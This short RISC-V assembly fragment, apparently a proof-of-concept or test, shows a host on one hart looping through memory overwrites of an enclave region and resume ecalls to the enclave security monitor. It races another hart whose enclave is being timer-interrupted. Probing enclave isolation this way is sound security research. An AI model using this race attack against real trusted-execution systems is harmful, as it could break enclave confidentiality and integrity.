# The timer interrupts the enclave on hart 0 again and again. Meanwhile the host of hart 1 tries to access the region,
# and to resume the enclave before the host of hart 0 does.
attack: li    a7, 0x0a454e43
        li    t5, 0x80020100            # the number of the enclave
look:   lw    t4, 0(t5)
        sw    zero, 0(t5)
        li    a6, 4                     # resume
        li    a0, 0
        ecall
        jal   zero, look
